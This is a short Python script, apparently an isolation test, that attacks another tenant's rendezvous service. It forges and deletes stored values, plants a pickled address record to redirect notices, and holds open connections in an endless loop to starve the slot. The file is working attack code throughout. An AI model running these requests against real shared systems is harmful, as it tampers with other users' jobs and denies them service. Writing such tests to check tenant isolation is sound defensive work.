# Copyright (c) Kolo authors
# SPDX-License-Identifier: MPL-2.0
"""Attacks the rendezvous of another tenant's slot.

usage: rendezvous.py <port of the slot's rendezvous>

It reads and stores values, registers itself for notices, and then holds all
connections, so that none is free for the slot, until it is stopped.
"""
import base64
import pickle
import socket
import sys
import time

from findings import attempt, report

port = int(sys.argv[1])


def ask(request):
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(request)
        answer = s.recv(4096)
        if not answer:
            raise ConnectionError("closed without an answer")
        return answer.split(b"\r\n")[0].decode()


def put(path, body):
    return ask(b"PUT %s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s" % (path, len(body), body))


listener = socket.create_server(("127.0.0.1", 0))
target = pickle.dumps(({"lo": [("127.0.0.1", listener.getsockname()[1])]}, b"k" * 32))

attempt("read a value", lambda: ask(b"GET /global/nothing HTTP/1.1\r\nHost: x\r\n\r\n"))
attempt("store a value", lambda: put(b"/attack/value", b"forged"))
attempt("mark a slot as gone", lambda: ask(b"DELETE /attack/0 HTTP/1.1\r\nHost: x\r\n\r\n"))
attempt("have notices sent to itself", lambda: put(b"/worker_addresses/x:0", base64.b64encode(target)))
report()

while True:
    held = []
    for _ in range(64):
        try:
            held.append(socket.create_connection(("127.0.0.1", port), timeout=5))
        except OSError:
            break
    time.sleep(5)
    for s in held:
        s.close()
